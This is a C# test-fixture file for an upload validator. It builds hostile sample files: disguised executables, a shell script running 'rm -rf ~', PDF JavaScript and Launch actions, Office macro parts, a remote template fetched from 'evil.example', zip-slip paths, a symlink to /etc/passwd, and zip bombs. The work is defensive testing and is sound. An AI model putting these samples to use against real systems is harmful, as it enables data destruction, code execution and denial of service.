using System.IO.Compression;
using System.Text;
using SupervisionBot.Core.Materials;

namespace SupervisionBot.Tests.Core.Materials;

/// <summary>Files that somebody might hand in to do harm, or by mistake, and good ones; each made here, by name.</summary>
static class HostileFiles
{
    public const string Types = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>""";

    static readonly byte[] OldOffice = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];
    static readonly byte[] PngHead = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52];

    public static byte[] Pdf(string more = "", int pages = 1, string trailer = "<</Root 1 0 R>>", string end = "%%EOF\n") => Encoding.Latin1.GetBytes(
        "%PDF-1.7\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n" + string.Concat(Enumerable.Range(3, pages).Select(number => $"{number} 0 obj\n<</Type/Page /Parent 2 0 R>>\nendobj\n"))
        + more + $"\ntrailer\n{trailer}\nstartxref\n9\n{end}");

    public static byte[] PdfWithObjects(string objects)
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true)) deflate.Write(Encoding.Latin1.GetBytes(objects));
        return [.. Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9>>\nstream\n"), .. packed.ToArray(), .. "\nendstream\nendobj\n%%EOF\n"u8];
    }

    public static byte[] Zip(params (string Name, byte[] Bytes)[] files)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, bytes) in files)
            {
                var entry = zip.CreateEntry(name, CompressionLevel.Optimal);
                entry.LastWriteTime = new DateTimeOffset(2022, 3, 2, 0, 0, 0, TimeSpan.Zero);
                using var part = entry.Open();
                part.Write(bytes);
            }
        return memory.ToArray();
    }

    public static byte[] Docx(params (string Name, byte[] Bytes)[] more) => Zip([("[Content_Types].xml", Text(Types)), ("word/document.xml", Text("<w/>")), .. more]);

    public static byte[] Pptx(int slides) => Zip([("[Content_Types].xml", Text(Types)), ("ppt/presentation.xml", Text("<p/>")),
        .. Enumerable.Range(1, slides).Select(number => ($"ppt/slides/slide{number}.xml", Text("<s/>")))]);

    public static byte[] Xlsx() => Zip(("[Content_Types].xml", Text(Types)), ("xl/workbook.xml", Text("<x/>")));

    public static byte[] Png(uint width = 10, uint height = 10, bool whole = true) =>
        [.. PngHead, .. Number(width), .. Number(height), 8, 2, 0, 0, 0, .. new byte[100], .. whole ? "IEND"u8.ToArray() : [], .. whole ? new byte[4] : []];

    public static byte[] Jpeg(bool whole = true) => [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[200], .. whole ? (byte[])[0xFF, 0xD9] : []];

    public static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    public static IEnumerable<(string Name, byte[] Bytes, FileFault Fault)> All()
    {
        byte[] program = [.. "MZ"u8, .. new byte[300]];
        byte[] elf = [0x7F, .. "ELF"u8, .. new byte[300]];
        var bomb = Zip(("a.pdf", new byte[60_000_000]));
        // Programs, under any name.
        foreach (var name in (string[])["report.pdf", "report.docx", "slides.pptx", "photo.png", "photo.jpg", "all.zip", "report.pdf.exe"]) yield return (name, program, FileFault.Program);
        yield return ("report.pdf", elf, FileFault.Program);
        yield return ("report.pdf", Text("#!/bin/sh\nrm -rf ~\n"), FileFault.Program);
        yield return ("report.pdf", [0xCF, 0xFA, 0xED, 0xFE, .. new byte[60]], FileFault.Program);
        yield return ("report.docx", Docx(("word/media/image1.png", program)), FileFault.Program);
        yield return ("all.zip", Zip(("report.pdf", elf)), FileFault.Program);
        foreach (var name in (string[])["setup.exe", "run.BAT", "a/b/c.js", "open.lnk", "x.ps1", "report.pdf.scr", "x.vbs ", "x.hta."]) yield return ("all.zip", Zip((name, Text("x"))), FileFault.Program);
        // Not what the name says.
        yield return ("report.docx", Pdf(), FileFault.OtherThanNamed);
        yield return ("report.pdf", Docx(), FileFault.OtherThanNamed);
        yield return ("slides.pptx", Xlsx(), FileFault.OtherThanNamed);
        yield return ("photo.jpg", Png(), FileFault.OtherThanNamed);
        yield return ("photo.png", Jpeg(), FileFault.OtherThanNamed);
        yield return ("all.zip", Docx(), FileFault.OtherThanNamed);
        yield return ("report", Pdf(), FileFault.OtherThanNamed);
        yield return ("report.docm", Docx(), FileFault.OtherThanNamed);
        yield return ("report.docx", Zip(("report.pdf", Pdf())), FileFault.OtherThanNamed);
        // Of no kind that is taken.
        foreach (var text in (string[])["", "<html><script>alert(1)</script>", "{\\rtf1}", "plain", "GIF89a", "RIFF1234WEBP", "Rar!\u001a\u0007", "7z\u00bc\u00af", "<svg onload=alert(1)>"])
            yield return ("report.pdf", Encoding.Latin1.GetBytes(text), FileFault.UnknownKind);
        yield return ("report.doc", OldOffice, FileFault.UnknownKind);
        yield return ("report.pdf", [0, .. Pdf()], FileFault.UnknownKind);
        yield return ("package.docx", Zip(("[Content_Types].xml", Text(Types)), ("other/part.xml", Text("<o/>"))), FileFault.UnknownKind);
        // With a password.
        yield return ("report.docx", OldOffice, FileFault.Encrypted);
        yield return ("report.pdf", Pdf(trailer: "<</Root 1 0 R /Encrypt 9 0 R>>"), FileFault.Encrypted);
        yield return ("report.pdf", Pdf(trailer: "<</Root 1 0 R /Encrypt<</Filter/Standard>> >>"), FileFault.Encrypted);
        yield return ("report.pdf", Pdf(trailer: "<</Root 1 0 R /#45ncrypt 9 0 R>>"), FileFault.Encrypted);
        yield return ("all.zip", Locked(Zip(("a.pdf", Pdf()))), FileFault.Encrypted);
        // Broken off, or broken.
        yield return ("report.pdf", Pdf(end: ""), FileFault.Damaged);
        yield return ("report.pdf", Text("%PDF-1.7\nnothing\n%%EOF\n"), FileFault.Damaged);
        yield return ("report.pdf", Pdf()[..60], FileFault.Damaged);
        yield return ("photo.png", Png(whole: false), FileFault.Damaged);
        yield return ("photo.png", Png(width: 0), FileFault.Damaged);
        yield return ("photo.jpg", Jpeg(whole: false), FileFault.Damaged);
        yield return ("report.docx", Docx()[..^40], FileFault.Damaged);
        yield return ("report.docx", Text("PK\u0003\u0004"), FileFault.Damaged);
        yield return ("all.zip", Zip(), FileFault.Damaged);
        // What runs when it is opened.
        foreach (var action in (string[])["/S /JavaScript /JS (app.alert(1))", "/OpenAction<</S/Launch /F (cmd.exe)>> /Launch <<>>", "/JS (x)", "/S/#4Aava#53cript /J#53 (x)", "/XFA [1 0 R]", "/RichMedia <<>>"])
            yield return ("report.pdf", Pdf($"9 0 obj\n<<{action}>>\nendobj\n"), FileFault.Macros);
        yield return ("report.pdf", PdfWithObjects("9 0 <</S /JavaScript /JS (app.alert(1))>>"), FileFault.Macros);
        yield return ("report.docx", Docx(("word/vbaProject.bin", Text("x"))), FileFault.Macros);
        yield return ("report.docx", Docx(("word/activeX/activeX1.bin", Text("x"))), FileFault.Macros);
        yield return ("hours.xlsx", Zip(("[Content_Types].xml", Text(Types)), ("xl/workbook.xml", Text("<x/>")), ("xl/macrosheets/sheet1.xml", Text("<x/>"))), FileFault.Macros);
        yield return ("report.docx", Zip(("[Content_Types].xml", Text(Types.Replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))), ("word/document.xml", Text("<w/>"))), FileFault.Macros);
        yield return ("report.docx", Zip(("[Content_Types].xml", [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes(Types.Replace("application/xml", "macroEnabled"))]), ("word/document.xml", Text("<w/>"))), FileFault.Macros);
        yield return ("report.docx", Docx(("word/_rels/settings.xml.rels", Text("""<R Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"""))), FileFault.Macros);
        // Something else inside.
        yield return ("report.pdf", Pdf("9 0 obj\n<</Type /EmbeddedFile>>\nendobj\n"), FileFault.OddContent);
        yield return ("report.pdf", PdfWithObjects("9 0 <</Names <</EmbeddedFiles 3 0 R>> >>"), FileFault.OddContent);
        yield return ("report.docx", Docx(("word/embeddings/oleObject1.bin", Text("x"))), FileFault.OddContent);
        yield return ("report.pdf", [.. Pdf(), .. Zip(("a.pdf", Pdf())), .. "\n%%EOF\n"u8], FileFault.OddContent);
        yield return ("photo.jpg", [.. Jpeg(), .. Zip(("a.js", Text("x"))), 0xFF, 0xD9], FileFault.OddContent);
        yield return ("all.zip", Zip(("notes.txt", Text("x"))), FileFault.OddContent);
        yield return ("all.zip", Zip(("inner.zip", Zip(("a.pdf", Pdf())))), FileFault.OddContent);
        yield return ("all.zip", Zip(("report.docx", Pdf())), FileFault.OddContent);
        yield return ("all.zip", Zip(("good.pdf", Pdf()), ("bad.docx", Docx(("word/vbaProject.bin", Text("x"))))), FileFault.Macros);
        // Names that lead elsewhere.
        foreach (var name in (string[])["../../etc/cron.d/x.pdf", "/etc/x.pdf", "a/../../x.pdf", "C:\\Windows\\x.pdf", "..\\x.pdf", "a/./x.pdf", "x\u0001.pdf", "a.pdf:stream", new string('a', 300) + ".pdf"])
            yield return ("all.zip", Zip((name, Pdf())), FileFault.PathTrick);
        yield return ("all.zip", Zip(("a.pdf", Pdf()), ("A.PDF", Pdf())), FileFault.PathTrick);
        yield return ("all.zip", Linked(Zip(("a.pdf", Text("/etc/passwd")))), FileFault.PathTrick);
        // More than it seems.
        yield return ("all.zip", bomb, FileFault.UnpacksTooFar);
        yield return ("all.zip", Lying(bomb), FileFault.UnpacksTooFar);
        yield return ("report.docx", Docx(("word/media/image1.png", new byte[50_000_000])), FileFault.UnpacksTooFar);
        yield return ("all.zip", Zip([.. Enumerable.Range(0, 5001).Select(number => ($"{number}.pdf", Text("x")))]), FileFault.UnpacksTooFar);
        yield return ("report.pdf", PdfWithObjects(new string(' ', 30_000_000)), FileFault.UnpacksTooFar);
        yield return ("photo.png", Png(100_000, 100_000), FileFault.UnpacksTooFar);
    }

    static byte[] Number(uint number) => [(byte)(number >> 24), (byte)(number >> 16), (byte)(number >> 8), (byte)number];

    /// <summary>Sets the flag of a password in the list of contents and in front of the file.</summary>
    static byte[] Locked(byte[] zip) => Changed(Changed(zip, "PK\u0001\u0002"u8, 8, 1), "PK\u0003\u0004"u8, 6, 1);

    /// <summary>Says that it is a symbolic link, made on Unix.</summary>
    static byte[] Linked(byte[] zip) => Changed(Changed(zip, "PK\u0001\u0002"u8, 41, 0xA1), "PK\u0001\u0002"u8, 5, 3);

    /// <summary>Says that what it unpacks to is small.</summary>
    static byte[] Lying(byte[] zip) => Changed(Changed(Changed(zip, "PK\u0001\u0002"u8, 27, 0), "PK\u0001\u0002"u8, 26, 0), "PK\u0001\u0002"u8, 25, 1);

    static byte[] Changed(byte[] zip, ReadOnlySpan<byte> mark, int offset, byte value)
    {
        byte[] copy = [.. zip];
        copy[copy.AsSpan().LastIndexOf(mark) + offset] = value;
        return copy;
    }
}
